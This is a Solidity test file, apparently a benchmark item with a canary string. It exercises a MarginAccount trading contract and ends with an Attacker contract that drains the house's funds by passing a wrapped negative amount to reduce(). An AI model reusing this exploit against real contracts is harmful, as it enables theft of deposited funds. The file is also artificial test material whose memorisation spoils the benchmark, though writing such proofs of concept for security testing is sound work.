// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";
import "./MarginAccount.sol";

// assay-canary-2a33bb68-efea-458e-972d-f7b5dbee181f

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Usdc is ERC20("USD Coin", "USDC") {
    address private minter = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

contract Feed is IPriceSource {
    address private setter = msg.sender;
    uint256 public price = 2_000e18;

    function set(uint256 price_) external {
        require(msg.sender == setter, "setter only");
        price = price_;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);

    Usdc internal usdc;
    Feed internal feed;
    MarginAccount internal house;
    Attacker internal mallory;

    function setUp() public {
        usdc = new Usdc();
        feed = new Feed();
        house = new MarginAccount(usdc, feed);
        usdc.mint(address(this), 50_000e18);
        usdc.approve(address(house), 50_000e18);
        house.fund(48_000e18);
        usdc.mint(ANA, 10_000e18);
        vm.startPrank(ANA);
        usdc.approve(address(house), 10_000e18);
        house.addMargin(6_000e18);
        vm.stopPrank();
        mallory = new Attacker(house, usdc);
        usdc.mint(address(mallory), 1_000e18);
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        house.open(20e18);
        (, uint256 size, uint256 entry) = house.positions(ANA);
        require(size == 20e18 && entry == 2_002e18 && house.equityOf(ANA) == 5_920e18, "opened, less the spread");
        house.removeMargin(1_000e18);
        vm.stopPrank();

        feed.set(2_100e18); // a bid of 2,097.9
        vm.startPrank(ANA);
        house.reduce(5e18);
        require(usdc.balanceOf(ANA) == 5_479.5e18, "a profit is paid out");
        house.open(5e18);
        (, size, entry) = house.positions(ANA);
        require(size == 20e18 && entry == 2_027.025e18, "the average of 2,002 and 2,102.1");
        vm.stopPrank();

        feed.set(1_900e18); // a bid of 1,898.1
        vm.prank(ANA);
        house.reduce(10e18);
        (uint256 margin, , ) = house.positions(ANA);
        require(margin == 3_710.75e18 && house.totalMargin() == margin, "a loss comes out of the margin");

        feed.set(1_700e18); // a bid of 1,698.3
        require(house.equityOf(ANA) == 423.5e18, "not enough");
        vm.prank(BEN);
        house.liquidate(ANA);
        require(usdc.balanceOf(BEN) == 211.75e18 && house.totalMargin() == 0, "liquidated");
        house.fund(1e18);
        house.defund(2e18);
        house.transferOwnership(ANA);
        vm.prank(ANA);
        house.renounceOwnership();
    }

    function test_RefusesStrangers() public {
        vm.prank(ANA);
        vm.expectRevert("Ownable: caller is not the owner");
        house.defund(1);
        vm.expectRevert(abi.encodeWithSelector(MarginAccount.HouseTooPoor.selector, 48_000e18 + 1, 48_000e18));
        house.defund(48_000e18 + 1);
    }

    function test_RefusesPositions() public {
        vm.startPrank(ANA);
        vm.expectRevert(MarginAccount.ZeroAmount.selector);
        house.open(0);
        vm.expectRevert(MarginAccount.ZeroAmount.selector);
        house.reduce(0);
        vm.expectRevert(abi.encodeWithSelector(MarginAccount.PositionTooLarge.selector, 500e18 + 1, 500e18));
        house.open(500e18 + 1);
        vm.expectRevert(abi.encodeWithSelector(MarginAccount.MarginTooLow.selector, int256(5_880e18), 6_000e18));
        house.open(30e18);
        house.open(20e18);
        vm.expectRevert(abi.encodeWithSelector(MarginAccount.MarginTooLow.selector, int256(3_920e18), 4_000e18));
        house.removeMargin(2_000e18);
        vm.expectRevert(abi.encodeWithSelector(MarginAccount.ExceedsSize.selector, 20e18 + 1, 20e18));
        house.reduce(20e18 + 1);
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(MarginAccount.NotLiquidatable.selector, ANA));
        house.liquidate(ANA);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(usdc.balanceOf(address(mallory)) >= 48_000e18, "nothing gained");
    }

    function asset() public view returns (address) {
        return address(usdc);
    }

    function target() public view returns (address) {
        return address(house);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    MarginAccount internal house;
    IERC20 internal token;

    constructor(MarginAccount house_, IERC20 token_) {
        house = house_;
        token = token_;
    }

    function run() external {
        uint256 margin = token.balanceOf(address(this));
        uint256 pot = token.balanceOf(address(house)) - house.totalMargin();
        token.approve(address(house), margin);
        house.addMargin(margin);
        house.open(1e18);
        // four dollars lie between what was paid and the bid
        house.reduce(uint256(-int256(pot / 4)));
    }
}
